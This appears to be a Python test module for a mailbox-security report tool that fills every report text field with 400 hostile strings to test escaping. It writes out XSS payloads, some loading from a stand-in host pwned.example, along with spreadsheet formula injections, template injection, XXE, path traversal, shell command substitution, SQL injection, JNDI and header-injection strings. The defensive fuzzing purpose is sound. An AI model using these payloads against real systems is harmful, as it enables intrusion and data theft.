"""Four hundred hostile strings, and a report that has them in every text field that somebody may set.

Whoever may change a display name, name a group, a policy or an application, or write to the store writes such text.
"""

import datetime as dt
from collections.abc import Iterator, Sequence
from itertools import cycle, islice
from typing import Any, Final, Literal, get_args, get_origin, get_type_hints

import msgspec

from scanner.model.text import Text, say
from scanner.report.contract import (
    AnnouncementPart,
    AuthenticationPolicyPart,
    ChangePart,
    ControlPart,
    ExclusionPart,
    HistoryPart,
    MailboxPart,
    MonthPart,
    PolicyPart,
    Report,
    WaiverPart,
)
from tests.report.sample import CASES, make_mailbox, make_report

COUNT: Final = 400
SIGN: Final = "pwned"
"""What every script of the corpus would leave behind: a title, a dialog or a request with this word."""

_RUN: Final = f"document.title='{SIGN}';alert('{SIGN}')"

_ELEMENTS: Final = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</SCRIPT ><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<!-- <script> --><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src=https://{SIGN}.example/x.js></script>",
    f"<script src=//{SIGN}.example/x.js></script>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    f"<script type=module>{_RUN}</script>",
    f"<script/x>{_RUN}</script>",
    f"<script\n>{_RUN}</script\n>",
    f"<sCrIpT>{_RUN}</sCrIpT>",
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=https://{SIGN}.example/pixel.gif>",
    f"<img srcset=https://{SIGN}.example/pixel.gif>",
    f'<svg onload="{_RUN}">',
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f"<svg><use href=https://{SIGN}.example/x.svg#a></use></svg>",
    f"<svg><image href=https://{SIGN}.example/x.png></image></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}">',
    f'<body onload="{_RUN}">',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f"<iframe srcdoc=\"<script>parent.document.title='{SIGN}'</script>\"></iframe>",
    f"<iframe src=https://{SIGN}.example/></iframe>",
    f"<object data=https://{SIGN}.example/x.swf></object>",
    f"<embed src=https://{SIGN}.example/x.swf>",
    f"<link rel=stylesheet href=https://{SIGN}.example/x.css>",
    f"<link rel=preconnect href=https://{SIGN}.example/>",
    f"<style>@import 'https://{SIGN}.example/x.css';</style>",
    f"<style>*{{background:url(https://{SIGN}.example/x.png)}}</style>",
    f"<base href=https://{SIGN}.example/>",
    f'<meta http-equiv=refresh content="0;url=https://{SIGN}.example/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    f"<form action=https://{SIGN}.example/><input name=a autofocus onfocus={_RUN}></form>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=https://{SIGN}.example/a.mp3 autoplay></audio>",
    f"<marquee onstart={_RUN}>",
    f'<a href="javascript:{_RUN}">click</a>',
    f"<a href=https://{SIGN}.example/ ping=https://{SIGN}.example/>click</a>",
    f"<template><script>{_RUN}</script></template>",
    f"<slot><img src=x onerror={_RUN}></slot>",
    f"<portal src=https://{SIGN}.example/></portal>",
    f'<div style="background:url(https://{SIGN}.example/x)">x</div>',
    f"<div style=width:expression({_RUN})>x</div>",
    f"<table background=https://{SIGN}.example/x><tr><td>x",
    f"<button popovertarget=x onclick={_RUN}>x",
    f"<dialog open onclose={_RUN}>x</dialog>",
)
_ATTRIBUTES: Final = (
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f'" autofocus onfocus="{_RUN}',
    f"' autofocus onfocus='{_RUN}",
    f"x onmouseover={_RUN} ",
    f"` onmouseover={_RUN} x=`",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:msgbox({SIGN})",
)
_SCRIPTS: Final = (
    f"'-{_RUN}-'",
    f'"-{_RUN}-"',
    f"`${{{_RUN}}}`",
    f"\\'-{_RUN}//",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\u2028{_RUN}",
    f"\u2029{_RUN}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    '{"__proto__":{"x":1}}',
    "</",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
_TEMPLATES: Final = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ view }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}",
    "{% endraw %}{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "{% import os %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "{count}",
    "{missing}",
    "{",
    "}",
    "{{",
    "%s%s%s%n",
    "%(name)s",
    "%d",
)
_FORMULAS: Final = (
    "=1+1",
    "=1+1+cmd|' /C calc'!A0",
    f'=HYPERLINK("https://{SIGN}.example/?"&A1,"click")',
    f'=WEBSERVICE("https://{SIGN}.example/")',
    f'=IMPORTXML("https://{SIGN}.example/","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "'=1+1",
    '"=1+1',
    " =1+1",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    f"http://{SIGN}.example/",
    f"https://{SIGN}.example/",
    f"mailto:{SIGN}@example.com",
    f"internal:Sheet1!A1 {SIGN}",
    f"external:c:\\{SIGN}.xlsx",
    f"ftp://{SIGN}.example/",
    f"\\\\{SIGN}.example\\share\\x",
    '"; drop',
    'a"b""c',
    "a,b;c\td",
    "a\nb",
    "a\r\nb",
)
_FILES: Final = (
    "file:///etc/passwd",
    "url(file:///etc/passwd)",
    "@import url(file:///etc/passwd)",
    "http://169.254.169.254/latest/meta-data",
    "http://localhost:22/",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\System32",
    "CON",
    "NUL.txt",
    "a/../../b",
    ".",
    "..",
    "~root",
    "report.html",
    "-rf",
    "--help",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "&& id",
    "'; DROP TABLE mailboxes; --",
    "1 OR 1=1",
    "${jndi:ldap://pwned.example/a}",
    "To: a@b\r\nBcc: c@d",
    "Subject: x\n\nbody",
    "=?utf-8?q?=0d=0aBcc:_a@b?=",
    "a%0d%0aBcc: b@c",
)
_CHARACTERS: Final = (
    "\u202egnp.exe\u202c reversed",
    "\u202dforced\u202c",
    "\u2066isolated\u2069",
    "\u2067right to left\u2069",
    "\u2068unclosed",
    "\u200fmark\u200e",
    "\u200bzero\u200bwidth",
    "\u200djoiner",
    "\u00adsoft hyphen",
    "\ufeffbyte order mark",
    "\ufffenon-character",
    "\ud7ff\ue000private",
    "\x00zero byte",
    "\x07bell\x08back",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x7fdelete",
    "\x85next line",
    "a\u2028b",
    "a\u2029b",
    "\u0000\u0001\u0002\u0003",
    "👩🏽‍🚒 fire 🔥 brigade",
    "🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "Z̸̢̛͓a̷̧̛l̵̨̛g̷̢̛o̸̧̕",
    "שלום עולם",
    "مرحبا بالعالم",
    "漢字かな交じり文",
    "𝕬𝖉𝖒𝖎𝖓",
    "аdmin",
    "ⓐⓓⓜⓘⓝ",
    "ｆｕｌｌｗｉｄｔｈ",
    "ﷺﷺﷺ",
    "İıſK",
    "ǅ ß ﬁ",
    "e\u0301\u0301\u0301\u0301",
    "\U000e0041\U000e0042tags",
    "\u115f\u1160\u3164filler",
    "A" * 5000,
    "W" * 300,
    "a " * 2000,
    "\u0301" * 500,
    "<" * 1000,
    "&" * 1000,
    '"' * 1000,
    "\u202e" * 200,
    "𒐫" * 100,
    "﷽" * 50,
    "",
    " ",
    "\t",
    "\n",
    "null",
    "undefined",
    "NaN",
    "None",
    "True",
    "0",
    "-0",
    "1e309",
    "2026-11-26",
    "1/1/1970",
    "#REF!",
    "#N/A",
)
_BASE: Final = (*_ELEMENTS, *_ATTRIBUTES, *_SCRIPTS, *_TEMPLATES, *_FORMULAS, *_FILES, *_CHARACTERS)
_COATS: Final = (
    "{0} & Söhne",
    "Anna {0}",
    "x\u202e{0}",
    '"{0}',
    "'{0}'",
    "<b>{0}</b>",
    "{0}\n{0}",
)
"""The same inside what names look like, so that a defence that only looks at the first character is seen through."""


def _make() -> Iterator[str]:
    yield from _BASE
    dangerous = (*_ELEMENTS, *_ATTRIBUTES, *_FORMULAS, *_TEMPLATES, *_SCRIPTS)
    for coat, text in zip(cycle(_COATS), dangerous, strict=False):
        yield coat.replace("{0}", text)
    for coat, text in zip(cycle(reversed(_COATS)), dangerous, strict=False):
        yield coat.replace("{0}", text)


HOSTILE: Final = tuple(islice(dict.fromkeys(_make()), COUNT))

_MOMENTS: Final = frozenset(
    {"started", "finished", "as_of", "collected_at", "last_seen", "expires", "date", "deadline", "month"}
)
"""Fields that this program writes from its own clock or reads as a date: text can't get there."""

_OURS: Final = frozenset({"schema"})


def fill(part: Any, texts: Iterator[str]) -> Any:
    """Puts hostile text into every text field of a part of a report, whatever fields it has.

    Args:
        part: A part, or a value in one.
        texts: The text for the next field.

    Returns:
        A copy; numbers, dates and the words of closed lists stay.
    """
    hints = get_type_hints(type(part))
    changed = {}
    for name, hint in hints.items():
        if name not in _MOMENTS | _OURS:
            changed[name] = _fill_value(getattr(part, name), hint, texts)
    return msgspec.structs.replace(part, **changed)


def _fill_value(value: Any, hint: Any, texts: Iterator[str]) -> Any:
    inner = get_args(hint)
    if Literal in {get_origin(item) for item in (hint, *inner)}:
        return value  # a closed list of words of our own
    match value:
        case msgspec.Struct():
            return fill(value, texts)
        case Text():
            return say("{words}", words=next(texts)) if value else value
        case str():
            return next(texts)
        case list():
            return [_fill_value(item, inner[0], texts) for item in value]
        case _:
            return value


def make_hostile(texts: Sequence[str] = HOSTILE) -> Report:
    """Makes a report in which every string stands in every text field of a mailbox, a policy and a change."""
    mailboxes = [_make_mailbox(number, text) for number, text in enumerate(texts)]
    report = make_report(mailboxes=mailboxes, complete=False)
    policy = report.tenant_posture.conditional_access[0]
    posture = msgspec.structs.replace(
        report.tenant_posture,
        conditional_access=[_make_policy(policy, text) for text in texts],
        authentication_policies=[
            fill(AuthenticationPolicyPart(name="x", allows_basic_smtp=None, default=False, mailboxes=1), cycle([text]))
            for text in texts
        ],
        default_authentication_policy=texts[0],
    )
    turn = cycle(texts)
    return msgspec.structs.replace(
        report,
        tenant=fill(report.tenant, turn),
        run=fill(report.run, turn),
        tenant_posture=posture,
        history=_make_history(texts),
        announcements=[_make_announcement(text, [mailbox.id for mailbox in mailboxes[:5]]) for text in texts[:40]],
        controls=[_make_control(text) for text in texts[:40]],
    )


def _make_mailbox(number: int, text: str) -> MailboxPart:
    """Makes a mailbox whose every text is one string; its id stays its own, since ids join."""
    mailbox = make_mailbox(number, CASES[number % len(CASES)], "x", "user")
    waiver = WaiverPart(reason="x", owner="x", expires="2027-03-31") if number % 2 else None
    use = msgspec.structs.replace(mailbox.use, failures={text: 3})
    filled: MailboxPart = fill(msgspec.structs.replace(mailbox, waiver=waiver, use=use), cycle([text]))
    return msgspec.structs.replace(filled, id=f"{number:08x}-{text}")


def _make_policy(policy: PolicyPart, text: str) -> PolicyPart:
    exclusion = ExclusionPart(kind="group", name="x", mailboxes=1, paths=["x"])
    full = msgspec.structs.replace(policy, words=[say("{x}", x="x")], exclusions=[exclusion])
    filled: PolicyPart = fill(full, cycle([text]))
    return filled


def _make_history(texts: Sequence[str]) -> HistoryPart:
    change = ChangePart(kind="policy", subject="x", name="x", before="x", after="x", because=say("x"))
    months = [
        MonthPart(month=month, run_id="x", mailboxes=9, coverage=1.0, by_flag={"exposed": 3})
        for month in ("2026-09", "2026-10")
    ]
    return HistoryPart(
        previous=texts[0],
        previous_finished=dt.datetime(2026, 10, 1, tzinfo=dt.UTC).isoformat(),
        changes=[fill(change, cycle([text])) for text in texts],
        months=months,
    )


def _make_announcement(text: str, breaks: list[str]) -> AnnouncementPart:
    part = AnnouncementPart(
        key="x", title=say("x"), date="2026-12-31", certain=True, changed=1, breaks=[], unknown=1, because=say("x")
    )
    filled: AnnouncementPart = fill(part, cycle([text]))
    return msgspec.structs.replace(filled, breaks=breaks)


def _make_control(text: str) -> ControlPart:
    part = ControlPart(
        framework="x", version="x", id="x", title=say("x"), state="met", because=say("x"), mapped_by=say("x")
    )
    filled: ControlPart = fill(part, cycle([text]))
    return filled
